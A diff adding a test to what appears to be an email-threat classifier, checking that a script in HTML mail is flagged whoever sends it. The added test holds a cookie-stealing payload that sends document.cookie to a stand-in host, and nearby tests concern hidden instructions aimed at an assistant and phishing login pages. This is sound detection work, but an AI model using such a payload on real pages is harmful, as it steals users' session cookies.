@@ -122,6 +122,13 @@ test('orders to an assistant in text that nobody sees are a sign, whoever sends 
   assert.deepEqual(await judged({ ...inside, text: '議事録です。', hidden_orders }), ['high task'])
 })
 
+test('code that a webmail may run is a sign, whoever sends it: a stranger, a list, a partner, a colleague', async () => {
+  const html_script = "onerror=fetch('https://c.example/'+document.cookie)"
+  const list = { from: 'News <n@news.example>', list_id: 'digest.news.example' }
+  for (const mail of [{ from: 'News <n@news.example>' }, list, partner, inside])
+    assert.deepEqual(await judged({ ...mail, text: '本日の記事です。', html_script }), ['high script'])
+})
+
 test("the office's account is wanted at a page of nobody's that wears our name or is called like a place for papers; a course at a school's own site wants it honestly", async () => {
   const text = '支給基準（案）を共有します。閲覧には職場のメールアドレスでのサインインが必要です。'
   const at = (host: string) => ({ ...inside, text, links: [{ url: `https://${host}/s/login` }] })
